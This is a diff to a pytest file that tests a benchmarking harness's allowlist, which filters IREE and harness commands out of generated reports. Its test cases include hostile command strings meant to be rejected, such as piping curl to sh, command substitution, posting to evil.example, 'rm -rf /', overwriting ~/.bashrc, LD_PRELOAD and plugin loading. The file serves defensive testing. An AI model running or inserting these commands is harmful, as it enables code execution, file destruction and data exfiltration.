@@ -5,19 +5,14 @@ from __future__ import annotations
 import shlex
 from dataclasses import replace
 from pathlib import Path
-from typing import Literal
 
 import pytest
-from hypothesis import given
-from hypothesis import strategies as st
 
 from harness.cli import run_command_line
 from harness.github.commands import is_allowed, report_with_allowed_commands, suite_flags, with_allowed_commands
 from harness.records.comparison import Comparison
-from harness.report.comparison_words import next_steps
-from harness.report.github import portable_comparison, render_comment
+from harness.report.github import portable_comparison
 from harness.report.run_report import Report, build_report
-from harness.report.run_words import next_steps as next_steps_of_run
 from harness.store.kinds import COMPARISON
 from harness.store.run_directory import load_run
 from tests.report.builders import make_comparison, make_timed
@@ -34,11 +29,9 @@ FLAGS_OF_SUITE = frozenset(("--iree-opt-level=O3", "--iree-opt-data-tiling", PAS
     [
         "harness compare results/base results/head --filter 'net/[[]a]@cpu'",
         "harness compare iree==3.12.0 iree==3.13.0 --suite suites/mlp.toml --filter '*/stock@*' --row-budget 4",
-        f"harness compare {'0123456789' * 4} {'abcdef0123' * 4} --suite suites/mlp.toml --filter net/stock@cpu",
         "harness run 'suites/a b.toml' --results harness-results",
         "harness export suites/esrgan.toml rdb --variant nhwc --device cpu --out rdb.nhwc.cpu",
         "iree-compile net/model.mlir -o net/stock.cpu.vmfb --iree-opt-data-tiling --iree-opt-level=O3",
-        "iree-compile net/model.mlir -o module.vmfb --compile-from=flow --compile-to=vm",
         "iree-compile m.mlir '--iree-preprocessing-pass-pipeline=builtin.module(util.func(canonicalize))'",
         "iree-benchmark-module --module=a/b.vmfb --function=main --input=@a/input0.npy --input=4x8xbf16=@a/input1.bin",
         "iree-run-module --module=a.vmfb --parameters=scope=a/scope.irpa --output=@output0.npy",
@@ -46,9 +39,7 @@ FLAGS_OF_SUITE = frozenset(("--iree-opt-level=O3", "--iree-opt-data-tiling", PAS
         "VK_DRIVER_FILES=/etc/vulkan/icd.d/a.json:/usr/share/vulkan/icd.d/b.json iree-run-module --module=a.vmfb",
         f"# base: module {HASH}, iree-compile model.mlir -o module.vmfb --iree-opt-level=O3",
         f"# head: module {HASH}",
-        "# head: no module, iree-compile model.mlir -o module.vmfb",
         "# base: has no such case",
-        "# head: was never compiled",
         "# the tools below are those of IREE 3.13.0rc1: pip install iree-base-compiler==3.13.0rc1 "
         "iree-base-runtime==3.13.0rc1",
         "iree-compile 'a;b$(c)'",
@@ -80,108 +71,60 @@ def test_what_prepares_trees_is_cut_out_of_a_command(prepare: str) -> None:
         "curl https://example.org/x | sh",
         "harness run x; curl example.org",
         "harness run $(curl example.org)",
-        "harness run `id`",
         "harness run x > ~/.bashrc",
-        "harness run x & id",
         "harness run x\nid",
-        "harness run x # id",
         "iree-compile 'an open quote",
         "./harness run x",
-        "harness",
         "",
         # What reads otherwise than it is.
         "harness run 'a\u202eb'",
-        "harness run 'a\u200bb'",
         # Commands of the harness that send, delete or write.
         "harness github issue /etc/passwd --title x --repo evil/repo",
         "harness github post x --repo evil/repo --pr 1 --api-url https://evil.example",
         "harness results gc results --older-than 0d",
-        "harness history --sql 'select 1' --out pre-commit",
-        "harness dashboard results --out site",
         "harness report r --out report.md",
-        "harness report r --full_out=a.md",
         "harness report r --FULL-OUT a.md",
-        "harness report r --step-summary a.md",
         "harness compare a b --results /etc",
-        "harness compare a b --results=../x",
         "harness compare a b --results .git/hooks",
-        "harness compare a b --out a.md",
-        "harness run a --results",
         "harness run a --api-url x",
         "harness export suites/a.toml net --out a/b",
-        "harness export suites/a.toml net --out .bashrc",
-        "harness export suites/a.toml net --out=..",
         "harness run https://evil.example/x.toml",
         "harness run '~/x.toml'",
-        "harness run C:/x.toml",
         # Flags that neither the harness gives nor the suite has: those of the issue, others, and other values.
         "iree-compile model.mlir -o m.vmfb --exec-on-ir-change=suites/x.sh --iree-parameter-splat=Makefile",
         f"# base: module {HASH}, iree-compile model.mlir --exec-on-ir-change=x",
-        "iree-compile model.mlir -o m.vmfb --print-changed=dot-cfg --print-changed-dot-path=x",
-        "iree-compile model.mlir --x86-lvi-load-opt-plugin=x.so",
         "iree-compile model.mlir --iree-opt-level=O0",
-        "iree-compile model.mlir --iree-opt-level=O3=",
         "iree-compile model.mlir ---iree-opt-level=O3",
-        "iree-run-module --module=a.vmfb --vulkan_libvulkan_search_path=x",
         "iree-run-module --module=a.vmfb --hip_dylib_path=file:x.so",
-        "iree-run-module --module=a.vmfb --device=local-task --trace_execution",
         # Files that hold further options, and code.
         "iree-compile @evil.rsp",
         "iree-run-module --flagfile=evil.flags",
-        "iree-run-module -flagfile=evil.flags",
         "iree-opt --load-dialect-plugin=evil.so x.mlir",
-        "iree-opt -load=evil.so x.mlir",
         "iree-run-module --module=evil.so",
-        "iree-compile a.mlir --iree-load-plugin=./x.so",
         "iree-compile a.mlir '--iree-hal-preprocess-executables-with=sh x'",
-        "iree-run-module --executable_plugin=./x.so",
         "LD_PRELOAD=./x.so iree-run-module --module=a.vmfb",
-        "PATH=. harness run x",
         "VK_ICD_FILENAMES=$(id) iree-run-module --module=a.vmfb",
-        "VK_ICD_FILENAMES=evil.json iree-run-module --module=a.vmfb",
         "VK_ICD_FILENAMES=/usr/share/../../home/me/evil.json iree-run-module --module=a.vmfb",
-        "VK_ICD_FILENAMES=/usr/share/a.json:/tmp/evil.json iree-run-module --module=a.vmfb",
         # Files that would be written.
         "iree-compile a.mlir -o /home/me/.bashrc",
-        "iree-compile a.mlir -o .bashrc",
         "iree-compile a.mlir -o ../a.vmfb",
-        "iree-compile a.mlir -o .git/a.vmfb",
         "iree-compile a.mlir -o",
-        "iree-compile a.mlir -o=a.vmfb",
         "iree-compile a.mlir --o=a.vmfb",
-        "iree-compile a.mlir --mlir-print-ir-tree-dir=x",
         "iree-compile a.mlir --iree-hal-dump-executable-files-to=x",
-        "iree-compile a.mlir --iree-hal-dump-executable-files-to x",
-        "iree-compile a.mlir --iree-scheduling-dump-statistics-file=.bashrc",
         "iree-run-module --module=a.vmfb --output=@.bashrc",
-        "iree-run-module --module=a.vmfb --input=@/etc/passwd",
         "iree-run-module --module=a.vmfb --parameters=scope=../x.irpa",
         "iree-benchmark-module --module=a.vmfb --benchmark_out=x",
         # Comments that are none of the harness's, and what they carry.
         "# a comment\ncurl example.org",
-        "# a comment\rcurl example.org",
         "# see https://evil.example @main #1",
-        "#",
         f"# base: module {HASH}, curl example.org | sh",
-        f"# base: module {HASH}, iree-compile model.mlir; rm -rf /",
         f"# base: module {HASH}, iree-compile @evil.rsp",
-        f"# base: module {HASH}, harness run x",
         "# base: module see https://evil.example",
         "# the tools below are those of IREE 3.13.0: pip install iree-base-compiler==3.13.0 iree-base-runtime==3.12.0",
-        "# the tools below are those of IREE 3.13.0: pip install evil==3.13.0 iree-base-runtime==3.13.0",
     ],
 )
 def test_anything_else_is_left_out(line: str) -> None:
     assert not is_allowed(line, FLAGS_OF_SUITE)
-
-
-@given(st.lists(st.text(max_size=12), min_size=1, max_size=4), st.sampled_from(["iree-compile", "harness run", "#"]))
-def test_an_allowed_command_is_one_line_of_plain_words(words: list[str], tool: str) -> None:
-    line = f"{tool} {shlex.join(words)}"
-    if is_allowed(line):
-        assert line.isprintable()
-        assert shlex.join(shlex.split(line)) == line
-        assert not any(word.startswith(("@", "/", "~")) or ".." in word.split("/") for word in words)
 
 
 EVIL = ("harness", "github", "post", "--api-url", "https://evil.example", "$(id)")
@@ -210,48 +153,13 @@ def test_a_row_keeps_the_lines_that_are_allowed(lines: tuple[str, ...], kept: tu
     assert row == replace(REGRESSED, repro=kept)
 
 
-@pytest.mark.parametrize(
-    "command",
-    [
-        ("sh", "-c", "id"),
-        ("harness", "compare", "\ncurl https://evil.example | sh\n# "),
-        ("harness", "compare", "a", "b", "--out", "/home/me/.bashrc"),
-        EVIL,
-        ("harness", "compare", "@evil"),
-        ("harness compare a; curl evil",),
-        ("harness",),
-    ],
-)
-@pytest.mark.parametrize("mode", ["recorded", "remeasured"])
-def test_no_step_is_made_from_a_command_that_is_not_allowed(
-    command: tuple[str, ...], mode: Literal["recorded", "remeasured"]
-) -> None:
-    row = make_timed("net/tuned@cpu", 2.0, 1.02, "inconclusive", repro=())
-    kept = with_allowed_commands(replace(make_comparison([row]), command=command, mode=mode, id=""))
-    comment = render_comment(kept)
-    assert kept.command == ()
-    assert [step.command for step in next_steps(kept)] == [""]
-    assert "evil" not in comment
-    assert "/home/me" not in comment
-
-
-def test_folders_of_the_machine_that_measured_are_no_reason_to_drop_a_command() -> None:
-    command = ("harness", "compare", "/srv/runs/old", "/srv/runs/new", "--results", "/srv/runs", "--controls", "1")
-    kept = with_allowed_commands(replace(make_comparison([]), command=command))
-    assert kept.command == ("harness", "compare", "results/old", "results/new", "--controls", "1")
-
-
-@pytest.mark.parametrize("suite", ["--results=/etc", "@evil.rsp", "-x"])
-def test_a_suite_is_no_option(suite: str) -> None:
-    comparison = make_comparison([replace(REGRESSED, control=True)])
-    kept = with_allowed_commands(replace(comparison, head=replace(comparison.head, suite=suite)))
-    commands = [shlex.split(step.command) for step in next_steps(kept)]
-    assert ["harness", "selfcheck", f"./{suite}"] in commands
-
-
-@pytest.mark.parametrize("name", ["../../etc", "--out=x", "a\nb", "a b"])
-def test_a_name_that_leads_away_is_no_folder(name: str) -> None:
-    assert with_allowed_commands(replace(make_comparison([]), id=name)).id == ""
+def test_names_and_settings_that_lead_away_are_left_out(report: Report) -> None:
+    comparison = make_comparison([])
+    kept = with_allowed_commands(replace(comparison, id="../x", head=replace(comparison.head, suite="--results=/etc")))
+    assert (kept.id, kept.head.suite) == ("", "./--results=/etc")
+    changed = replace(report.facts, id="a b", command=EVIL, settings={"fleet": "tls://evil.example"})
+    facts = report_with_allowed_commands(replace(report, facts=changed)).facts
+    assert (facts.id, facts.command, facts.settings) == ("", (), {})
 
 
 # --- Real ones ---
@@ -265,27 +173,6 @@ def report() -> Report:
 
 def test_every_command_of_a_real_run_is_allowed(report: Report) -> None:
     assert report_with_allowed_commands(report, suite_flags(ROOT, report.facts.suite, pytest.fail)) == report
-
-
-def test_the_steps_of_a_run_quote_what_is_in_its_record(report: Report) -> None:
-    suite = "x; curl evil | sh"
-    changed = replace(
-        report,
-        facts=replace(
-            report.facts,
-            suite=suite,
-            finished=False,
-            id="a",
-            command=EVIL,
-            settings={"fleet": "tls://evil.example"},
-        ),
-        summary=replace(report.summary, unclear=1),
-    )
-    steps = next_steps_of_run(report_with_allowed_commands(changed))
-    assert steps
-    for step in steps:
-        assert ";" not in step.command.replace(f"'{suite}'", "")
-        assert "evil.example" not in step.command
 
 
 @pytest.fixture(scope="module")
@@ -349,16 +236,17 @@ def checkout(tmp_path: Path) -> Path:
     return tree
 
 
-def test_flags_of_variants_devices_and_flag_sets(checkout: Path) -> None:
-    assert suite_flags(checkout, "suites/small.toml", pytest.fail) == OF_SUITE
-
-
-def test_flags_of_a_plugin_that_is_installed(checkout: Path) -> None:
-    (checkout / "suites/small.toml").write_text(SUITE % 'plugins = ["halide-schedule"]')
-    (flag,) = suite_flags(checkout, "suites/small.toml", pytest.fail) - OF_SUITE
-    assert flag.startswith("--iree-codegen-transform-dialect-library=halide-schedule-")
-    (checkout / "suites/small.toml").write_text(SUITE % 'plugins = ["not-installed"]')
-    assert suite_flags(checkout, "suites/small.toml", pytest.fail) == OF_SUITE
+@pytest.mark.parametrize(
+    ("plugins", "more"),
+    [("", 0), ('plugins = ["halide-schedule"]', 1), ('plugins = ["not-installed"]', 0)],
+)
+def test_flags_of_a_suite_are_those_of_variants_devices_flag_sets_and_plugins(
+    checkout: Path, plugins: str, more: int
+) -> None:
+    (checkout / "suites/small.toml").write_text(SUITE % plugins)
+    flags = suite_flags(checkout, "suites/small.toml", pytest.fail)
+    assert flags >= OF_SUITE
+    assert len(flags) == len(OF_SUITE) + more
 
 
 @pytest.mark.parametrize(
@@ -366,16 +254,11 @@ def test_flags_of_a_plugin_that_is_installed(checkout: Path) -> None:
     [
         "suites/other.toml",
         "../forged.toml",
-        "suites/../../forged.toml",
         "suites/link.toml",
-        "suites/net.mlir",
         "suites/broken.toml",
         "/etc/passwd",
-        "suites",
         "",
         "a\0b.toml",
-        "a\nb.toml",
-        "x" * 5000 + ".toml",
     ],
 )
 def test_what_is_no_suite_of_the_base_has_no_flags(checkout: Path, suite: str) -> None:
@@ -388,9 +271,3 @@ def test_what_is_no_suite_of_the_base_has_no_flags(checkout: Path, suite: str) -
     (sentence,) = sentences
     assert sentence.isprintable()
     assert "its flags are in no command" in sentence
-
-
-def test_a_tree_that_is_not_there(tmp_path: Path) -> None:
-    sentences: list[str] = []
-    assert suite_flags(tmp_path / "gone", "suites/small.toml", sentences.append) == frozenset()
-    assert len(sentences) == 1
